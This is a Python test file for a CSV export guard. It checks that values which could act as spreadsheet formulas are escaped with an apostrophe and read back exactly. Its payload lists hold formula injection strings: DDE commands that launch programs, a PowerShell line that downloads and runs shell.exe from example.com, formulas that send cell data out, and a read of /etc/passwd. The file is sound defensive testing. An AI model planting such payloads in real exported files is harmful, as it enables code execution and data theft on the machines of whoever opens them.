"""No cell of a results file is ever a formula, and every cell can be had back exactly."""

import csv
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given, strategies as st

from campaign.domain.result_row import ResultRow
from campaign.export.csv import LiveResults, line, write_results
from campaign.export.formula_guard import guard
from tests.export.unguarded import unguard

# What a formula can do, and how it can be made not to look like one.
BARE = [
    "=1+1",
    "=cmd|'/c calc'!A1",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget example.com/shell.exe)'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=DDE("cmd";"/C calc";"!A0")',
    '=HYPERLINK("http://example.com?leak="&A1&B1,"Error: click here")',
    '=WEBSERVICE(CONCATENATE("http://example.com/",A1))',
    '=IMPORTXML(CONCAT("http://example.com/?v=",CONCATENATE(A2:E2)),"//a/a10")',
    '=IMPORTFEED(CONCAT("http://example.com/?v=",CONCATENATE(A2:E2)))',
    '=IMPORTHTML(CONCAT("http://example.com/?v=",CONCATENATE(A2:E2)),"table",1)',
    '=IMPORTRANGE("https://example.com/sheet","A1:B2")',
    '=IMAGE("https://example.com/?v="&A1)',
    "='file:///etc/passwd'#$passwd.A1",
    "=WEBSERVICE(CONCATENATE(\"http://example.com/\",('file:///etc/passwd'#$passwd.A1)))",
    "=SUM(1+1)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    '=IF(1,MSEXCEL|"\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc"!A1)',
    "=A1",
    "==1+1",
    "=",
    "=\t1",
    "+1+1",
    "+cmd|'/c calc'!A1",
    "+SUM(A1:A9)",
    "+1 (202) 555-0101",
    "+12025550101*2",
    "+12025550101\n",
    "+02025550101",
    "+123456",
    "+1234567890123456",
    "+١٢٠٢٥٥٥٠١٠١",  # Arabic digits: like a phone number, and no E.164
    "+",
    "-1+1",
    "-2+3+cmd|'/c calc'!A1",
    "-cmd|'/c calc'!A1",
    "-",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "@A1",
    "@",
]
DISGUISED = [
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\tAda",
    "\nAda",
    " =1+1",
    "   @SUM(1)",
    "\u00a0=1+1",
    "\u2003-1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\u200d+1+1",
    "\u2060=1+1",
    "\ufeff=1+1",
    "\ufeff\u00a0 =1+1",
    "\u202e=1+1",
    "\u00ad=1+1",
    "\u180e=1+1",
    "\u034f=1+1",
    "\ufe0f=1+1",
    "\u3164=1+1",
    "\u2800=1+1",
    "\x00=1+1",
    "\x1b=1+1",
    "\x0b=1+1",
    "\x85=1+1",
    "\u2028=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\N{FULLWIDTH PLUS SIGN}1+1",
    "\N{FULLWIDTH HYPHEN-MINUS}1+1",
    "\N{FULLWIDTH COMMERCIAL AT}SUM(1)",
    "\N{SMALL EQUALS SIGN}1+1",
    "\N{SMALL COMMERCIAL AT}SUM(1)",
    "\N{SUPERSCRIPT PLUS SIGN}1",
    "\N{MINUS SIGN}1+1",
    "\u00a0\N{FULLWIDTH EQUALS SIGN}1+1",
    " +12025550101",
    "'=1+1",
    "''=1+1",
    "'",
]
# These must stay in the cell that they began in.
BREAKING_OUT = [
    '=1+1","=2+2',
    '=1+1"\r\n"=2+2',
    '-1";=2+2;"',
    '@"',
    '="',
    "=1\r\n=2",
]
PAYLOADS = [*BARE, *DISGUISED, *BREAKING_OUT]
HARMLESS = [
    "",
    " ",
    "Ada",
    "Ada = Bob",
    "O'Hara",
    "a-b",
    "1-1",
    "ada@example.com",
    '"=1+1"',
    "é",
    "#REF!",
    "(1)",
    "1\n2",
]


def raw_lines(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file, strict=True))


def hostile(text: str) -> ResultRow:
    return ResultRow(number=2, cells=(text, text), status=text, call_id=text, error=text, phone=text, submitted_at=text)


def test_the_table_of_payloads_is_long_enough_and_says_nothing_twice() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_what_could_be_a_formula_begins_with_an_apostrophe(payload: str) -> None:
    """A name in someone else's sheet must not run a program on the desk of the person who opens the results."""
    assert guard(payload) == f"'{payload}"
    assert unguard(guard(payload)) == payload


@pytest.mark.parametrize("text", HARMLESS, ids=ascii)
def test_plain_text_is_left_as_it_is(text: str) -> None:
    """A mark on every cell would make the results useless as a sheet."""
    assert guard(text) == text


@pytest.mark.parametrize("phone", ["+12025550101", "+1202555", "+442079460101", "+123456789012345"])
def test_a_bare_phone_number_is_left_as_it_is(phone: str) -> None:
    """Other programs read the phone column, and a number alone computes nothing."""
    assert guard(phone) == phone


@given(st.text() | st.text(alphabet="'=+-@\t\r\n \u200b\ufeff＝０1a"))  # noqa: RUF001 the full-width forms are the test
def test_unguarding_gives_back_every_text_exactly(text: str) -> None:
    """The file fed back as a sheet must hold the very values of the first one."""
    assert unguard(guard(text)) == text


@given(st.text(alphabet="'=+-@\t\r\n \u200b\u00a0", min_size=1))
def test_nothing_guarded_still_looks_like_a_formula(text: str) -> None:
    """Of a text of triggers and blanks alone, only blanks may pass unmarked."""
    seen = text.lstrip(" \u200b\u00a0")
    assert guard(text).startswith("'") or seen[:1] in ("", "'")


@given(st.lists(st.text() | st.text(alphabet="=+-@\t\r\n ,\"'＝−1a") | st.from_regex(r"\+?[0-9]{5,17}"), min_size=1))  # noqa: RUF001 the full-width forms are the test
def test_a_line_that_is_looked_at_as_one_is_what_its_cells_make_one_by_one(cells: list[str]) -> None:
    """Most lines need no look at each of their cells; which do must not be overlooked."""
    assert line(cells) == '"' + '","'.join(guard(cell).replace('"', '""') for cell in cells) + '"\r\n'


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
@pytest.mark.parametrize("live", [False, True], ids=["whole", "live"])
def test_no_payload_gets_through_a_results_file(
    tmp_path: Path, *, payload: str, live: bool, read: Callable[[Path], list[list[str]]]
) -> None:
    """Names, headings, error messages and the server's ids alike, and each comes back exactly, in its own cell."""
    path = tmp_path / "r.csv"
    if live:
        with LiveResults(path, header=(payload, "Mobile")) as results:
            results.append(hostile(payload))
    else:
        write_results(path, header=(payload, "Mobile"), rows=[hostile(payload)])
    header, row = raw_lines(path)
    assert header[0] == f"'{payload}"
    assert {row[at] for at in (0, 1, 3, 4, 7, 8)} == {f"'{payload}"}
    assert row[5][:1] in ("'", "\\")  # an error that began with a control character begins with its escape
    assert len(header) == len(row) == 10
    back = read(path)
    assert back[0][0] == payload
    assert back[1][:2] == [payload, payload]


@pytest.mark.parametrize("payload", [text for text in PAYLOADS if text.isprintable()], ids=ascii)
def test_an_error_message_comes_back_exactly(
    tmp_path: Path, payload: str, read: Callable[[Path], list[list[str]]]
) -> None:
    """What AICaller said is evidence."""
    path = write_results(tmp_path / "r.csv", header=("A", "B"), rows=[hostile(payload)])
    assert read(path)[1][5] == payload


@given(cells=st.lists(st.text(), min_size=1, max_size=4), error=st.text())
def test_any_text_in_any_cell_makes_the_round_trip(
    tmp_path_factory: pytest.TempPathFactory, cells: list[str], error: str
) -> None:
    """A sheet may hold anything; its own cells are never changed, and no cell moves to another column."""
    row = ResultRow(number=7, cells=tuple(cells), status="rejected", error=error)
    path = tmp_path_factory.getbasetemp() / "any.csv"
    write_results(path, header=tuple(cells), rows=[row, row])
    lines = raw_lines(path)
    assert [[unguard(cell) for cell in line[: len(cells)]] for line in lines] == [cells] * 3
    assert all(line[len(cells) : len(cells) + 2] == ["7", "rejected"] for line in lines[1:])
